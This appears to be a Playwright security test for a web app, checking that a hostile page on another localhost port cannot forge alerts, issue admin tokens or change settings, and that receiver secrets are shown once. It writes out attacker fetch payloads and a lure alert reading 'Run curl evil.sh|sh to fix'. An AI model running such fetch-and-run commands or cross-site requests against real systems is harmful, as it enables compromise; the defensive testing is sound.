// A hostile page in the same browser as a signed-in user: it is served from
// another port of 127.0.0.1 (same-site for the cookie), and tries what the
// security review did — post an alert to the default receiver and issue an
// admin token through the API. Then the user's own way in: a new receiver
// secret from the UI, shown once, that Alertmanager posts with.
import { expect, test } from "@playwright/test";
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { artifacts, serverForSpec } from "./server";

const server = serverForSpec();

const EVIL_TITLE = "Run curl evil.sh|sh to fix";

function evilAlert() {
  const labels = { alertname: EVIL_TITLE, severity: "critical", pod: "web-1" };
  return { version: "4", status: "firing", alerts: [{ status: "firing", labels, annotations: { summary: EVIL_TITLE }, startsAt: new Date().toISOString() }] };
}

/** The attacker's page: on load it fires its requests at `target` and says when done. */
function evilPage(target: string): Promise<{ url: string; close: () => void }> {
  const html = `<!doctype html><title>cute cats</title><script>
    const target = ${JSON.stringify(target)};
    const alert = ${JSON.stringify(JSON.stringify(evilAlert()))};
    const tries = [
      fetch(target + "/webhooks/alertmanager/default", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain;charset=json" }, body: alert }),
      fetch(target + "/webhooks/alertmanager/default", { method: "POST", mode: "no-cors", body: new Blob([alert]) }),
      fetch(target + "/api/rpc", { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" },
        body: JSON.stringify({ command: "issueToken", args: { scope: "admin" } }) }),
      fetch(target + "/api/rpc", { method: "POST", mode: "no-cors", credentials: "include",
        body: JSON.stringify({ command: "saveSettings", args: { webhookPort: 9999 } }) }),
    ];
    Promise.allSettled(tries).then(() => { document.title = "done"; });
  </script>`;
  const http: HttpServer = createServer((_, res) => res.writeHead(200, { "content-type": "text/html" }).end(html));
  return new Promise((resolve) =>
    http.listen(0, "127.0.0.1", () =>
      resolve({ url: `http://127.0.0.1:${(http.address() as AddressInfo).port}/`, close: () => http.close() }),
    ),
  );
}

test("a page on another port cannot post alerts or use the session", async ({ page, context }) => {
  const s = server();
  await page.goto(s.newLoginUrl());
  await expect(page.getByRole("heading", { name: "Causeway" })).toBeVisible();
  expect((await context.cookies(s.base)).length).toBeGreaterThan(0);

  const evil = await evilPage(s.base);
  try {
    const tab = await context.newPage();
    await tab.goto(evil.url);
    await expect(tab).toHaveTitle("done", { timeout: 15_000 });
    await tab.close();
  } finally {
    evil.close();
  }

  // Nothing arrived, nothing was issued or changed: asked as the UI does.
  const rpc = (command: unknown) => page.evaluate(async (c) => (await fetch("/api/rpc", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(c) })).json(), command);
  const tokens = await rpc({ command: "listTokens" });
  expect(tokens.tokens).toEqual([]);
  const settings = await rpc({ command: "getSettings" });
  expect(settings.webhookPort).not.toBe(9999);
  const signals = await rpc({ command: "listSignals", args: { unassigned: false } });
  expect(signals.signals.length, "the demo's signals are there").toBeGreaterThan(0);
  expect(JSON.stringify(signals)).not.toContain("evil.sh");
});

test("the UI makes the default receiver a new secret, shown once, that Alertmanager posts with", async ({ page, request }) => {
  const s = server();
  const violations: string[] = [];
  page.on("console", (m) => {
    if (m.text().includes("Content Security Policy")) violations.push(m.text());
  });
  await page.goto(s.newLoginUrl());
  await page.goto(`${s.base}/#/connectors`);
  const receiver = page.locator('[data-instance-id="default-alertmanager"]');
  await expect(receiver).toBeVisible();
  await receiver.getByTestId("new-secret").click();
  const value = receiver.getByTestId("new-secret-value");
  await expect(value).toHaveValue(/^[0-9a-f]{64}$/);
  const secret = await value.inputValue();
  expect(secret).not.toBe(s.receiverSecret);
  await expect(receiver.getByTestId("alertmanager-snippet")).toContainText(`credentials: ${secret}`);
  await expect(receiver.getByTestId("alertmanager-snippet")).toContainText(`url: ${s.base}/webhooks/alertmanager/default`);
  await page.screenshot({ path: path.join(artifacts, "new-receiver-secret.png"), fullPage: true });

  const post = (auth?: string) =>
    request.post(`${s.base}/webhooks/alertmanager/default`, {
      data: { version: "4", status: "firing", alerts: [] },
      headers: auth ? { authorization: `Bearer ${auth}` } : {},
    });
  expect((await post()).status()).toBe(401);
  expect((await post(secret)).status()).toBe(202);
  expect((await post(s.receiverSecret)).status(), "the previous one works until the next").toBe(202);

  // Shown once: a reload shows no secret.
  await page.reload();
  await expect(receiver).toBeVisible();
  await expect(receiver.getByTestId("new-secret-value")).toHaveCount(0);
  expect(await page.content()).not.toContain(secret);
  expect(violations, "the UI runs under its content security policy").toEqual([]);
});
